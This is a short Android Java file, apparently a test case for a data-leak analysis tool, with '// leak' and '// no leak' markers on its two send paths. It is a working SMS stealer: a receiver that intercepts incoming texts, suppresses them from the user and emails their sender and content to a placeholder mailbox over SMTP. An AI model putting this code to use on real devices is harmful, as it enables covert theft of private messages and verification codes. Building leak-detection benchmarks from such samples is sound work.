package stealers;

import android.content.*;
import android.os.Bundle;
import android.telephony.SmsMessage;

import java.util.Properties;

import javax.mail.*;
import javax.mail.internet.*;

/** Messages go out by mail, from a thread of their own. */
public class SmsMail extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Bundle extras = intent.getExtras();
        if (extras == null) return;
        String number = "";
        StringBuilder text = new StringBuilder();
        for (Object pdu : (Object[]) extras.get("pdus")) {
            SmsMessage m = SmsMessage.createFromPdu((byte[]) pdu);
            number = m.getOriginatingAddress();
            text.append(m.getMessageBody());
        }
        abortBroadcast();
        new Thread(new Post("SMS from " + number, text.toString())).start();
        new Thread(new Hello("started")).start();
    }

    static class Auth extends Authenticator {
        protected PasswordAuthentication getPasswordAuthentication() {
            return new PasswordAuthentication("box@example.ru", "secret");
        }
    }

    static class Post implements Runnable {
        private final String subject, body;

        Post(String subject, String body) {
            this.subject = subject;
            this.body = body;
        }

        public void run() {
            Properties p = new Properties();
            p.put("mail.smtp.host", "smtp.example.ru");
            p.put("mail.smtp.auth", "true");
            try {
                Session session = Session.getInstance(p, new Auth());
                MimeMessage message = new MimeMessage(session);
                message.setFrom(new InternetAddress("box@example.ru"));
                message.addRecipient(Message.RecipientType.TO, new InternetAddress("box@example.ru"));
                message.setSubject(subject);
                message.setText(body);
                Transport.send(message); // leak
            } catch (MessagingException e) {
                e.printStackTrace();
            }
        }
    }

    static class Hello implements Runnable {
        private final String body;

        Hello(String body) {
            this.body = body;
        }

        public void run() {
            try {
                Session session = Session.getDefaultInstance(System.getProperties(), new Auth());
                Message message = new MimeMessage(session);
                message.setRecipients(Message.RecipientType.TO, InternetAddress.parse("box@example.ru"));
                message.setContent(body, "text/plain");
                Transport transport = session.getTransport("smtp");
                transport.connect();
                transport.sendMessage(message, message.getAllRecipients()); // no leak
            } catch (MessagingException e) {
                e.printStackTrace();
            }
        }
    }
}
